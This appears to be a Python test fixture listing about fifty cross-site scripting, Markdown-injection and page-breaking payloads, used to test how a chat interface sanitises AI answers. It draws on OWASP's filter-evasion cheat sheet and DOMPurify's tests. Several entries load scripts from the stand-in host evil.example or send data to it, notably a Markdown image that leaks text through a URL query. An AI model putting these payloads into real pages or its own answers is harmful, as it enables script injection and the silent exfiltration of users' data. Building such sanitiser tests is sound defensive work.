"""Attacks in answers: they try to run a script in the user's page, to send a request, or to break the page.

Scripts run ``HACK``, which sets a variable of the window. Sources: OWASP's cheat sheet on filter evasion, DOMPurify's
tests, and reports of exfiltration through images in chat pages.
"""

HACK = "window.hacked=1"

HOME = "https://evil.example"

ATTACKS = {
    "script": f"<script>{HACK}</script>",
    "script, broken": f"<scr<script>ipt>{HACK}</scr</script>ipt>",
    "script from home": f'<script src="{HOME}/x.js"></script>',
    "image with onerror": f'<img src="x" onerror="{HACK}">',
    "image with onerror, unquoted": f"<img/src=x/onerror={HACK}>",
    "image in Markdown": f"![secret]({HOME}/leak?words=secret)",
    "image in Markdown by reference": f"![secret][1]\n\n[1]: {HOME}/leak.png",
    "image in Markdown that breaks out": f'![x" onerror="{HACK}](x.png)',
    "image by srcset": f'<img srcset="{HOME}/a.png 1x">',
    "picture": f'<picture><source srcset="{HOME}/a.png"><img></picture>',
    "link to JavaScript": f"[click](javascript:{HACK})",
    "link to JavaScript, disguised": f"[click](JaVa&#x53;cript&colon;{HACK})",
    "link to JavaScript, with a tab": f'<a href="java\tscript:{HACK}">click</a>',
    "link to VBScript": "[click](vbscript:msgbox(1))",
    "link to data": f"[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGFja2VkPTE8L3NjcmlwdD4= '{HACK}')",
    "autolink": f"<javascript:{HACK}>",
    "link with a handler": f'<a href="https://example.org" onmouseover="{HACK}" target="_self">hover</a>',
    "svg": f'<svg onload="{HACK}"><script>{HACK}</script></svg>',
    "svg with use": f'<svg><use href="{HOME}/x.svg#a"></use><image href="{HOME}/x.png"></image></svg>',
    "svg that animates a link": f"<svg><a><animate attributeName=href values=javascript:{HACK} />x</a></svg>",
    "math": f'<math><mtext><table><mglyph><style><img src=x onerror="{HACK}"></style></mglyph></table></mtext></math>',
    "style": f"<style>@import '{HOME}/x.css'; body {{ display: none }}</style>",
    "style attribute": f'<p style="position:fixed;inset:0;background:url({HOME}/x.png)">over it all</p>',
    "link to a style sheet": f'<link rel="stylesheet" href="{HOME}/x.css">',
    "iframe": f'<iframe src="{HOME}"></iframe>',
    "iframe with srcdoc": f'<iframe srcdoc="<script>parent.{HACK}</script>"></iframe>',
    "object and embed": f'<object data="{HOME}/x.swf"></object><embed src="{HOME}/x.swf">',
    "base": f'<base href="{HOME}/">',
    "refresh": f'<meta http-equiv="refresh" content="0;url={HOME}">',
    "form": f'<form action="{HOME}"><input name="password"><button formaction="javascript:{HACK}">x</button></form>',
    "details": f'<details open ontoggle="{HACK}"><summary>x</summary></details>',
    "video": f'<video src="{HOME}/x.mp4" poster="{HOME}/x.png" onerror="{HACK}" autoplay></video>',
    "audio": f'<audio src="x" onerror="{HACK}" autoplay></audio>',
    "autofocus": f'<input autofocus onfocus="{HACK}">',
    "template": f'<template><img src=x onerror="{HACK}"></template>',
    "noscript": f'<noscript><p title="</noscript><img src=x onerror={HACK}>">',
    "comment": f'<!--><img src=x onerror="{HACK}">-->',
    "clobbering": '<a id="app"></a><form id="message" name="body"><input name="attributes"></form><img name="cookie">',
    "end of the page": "</div></main></body></html><h1>Your session has ended</h1>",
    "fence with an open end": f"```html\n<script>{HACK}</script>",
    "fence with a language that breaks out": f'```"><img src=x onerror="{HACK}">\ntext\n```',
    "fence in a list in a quote": f'> - ```js\n>   </code></pre><img src=x onerror="{HACK}">\n>   ```',
    "inline code": f"`<img src=x onerror={HACK}>` and ``</code><script>{HACK}</script>``",
    "table": f'| <img src=x onerror="{HACK}"> | [x](javascript:{HACK}) |\n|---|---|\n| <svg/onload={HACK}> | y |',
    "entities": f"&lt;img src=x onerror={HACK}&gt; &#60;script&#62;{HACK}&#60;/script&#62;",
    "title that breaks out": f"[x](https://example.org '\"><img src=x onerror={HACK}>')",
    "deeply nested": ">" * 500 + " " + "*" * 500 + "[" * 500 + "x" + "]" * 500,
    "a line of one character": "x" * 20_000,
    "right to left": "\u202egnp.exe \u2066\u2067 text",
    "null characters": f"<scr\u0000ipt>{HACK}</scr\u0000ipt><img \u0000src=x onerror\u0000={HACK}>",
}
